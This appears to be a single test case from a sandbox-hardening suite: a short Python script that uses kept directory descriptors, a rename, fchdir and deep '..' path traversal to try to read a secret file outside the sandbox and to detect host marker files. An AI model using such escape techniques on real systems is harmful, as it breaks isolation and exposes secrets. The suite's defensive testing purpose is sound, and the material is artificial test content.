# ax-id: AX-own-233-kept-dirfd
# ax-layer: L2 (AST layer assumed broken: native Python in the worker)
# ax-class: view
# ax-source: a kept descriptor of a directory, and of one that was moved away beneath it
# ax-escaped: secret, marker
# ax-params: CANARY SECRET_FILE OUT_FILE TCP_PORT UDP_PORT UNIX_PATH ABS_NAME VICTIM_PID HOST_PID WORK SHM_NAME MAX_PROCS MEM_MIB DISK_MIB SIBLING_PID SIBLING_WORK ZYGOTE_PID
import os
os.makedirs('a/b/c/d', exist_ok=True)
kept = os.open('a/b/c/d', os.O_RDONLY | os.O_DIRECTORY)
work = os.open('.', os.O_RDONLY | os.O_DIRECTORY)
os.rename('a/b/c/d', 'd')
up = '/'.join(['..'] * 40)
for fd in (kept, work):
    for path in (up + SECRET_FILE, '../../../' + SECRET_FILE, '..'):
        try:
            found = os.open(path, os.O_RDONLY, dir_fd=fd)
            print(os.read(found, 100))
        except OSError as error:
            print(error)
    try:
        os.fchdir(fd)
        print(open(up + SECRET_FILE).read())
    except OSError as error:
        print(error)
try:
    names = os.listdir(os.open('../..', os.O_RDONLY, dir_fd=work))
    print('AX-ESCAPED', names) if 'owner.lock' in names or 'slots' in names else print(names)
except OSError as error:
    print(error)
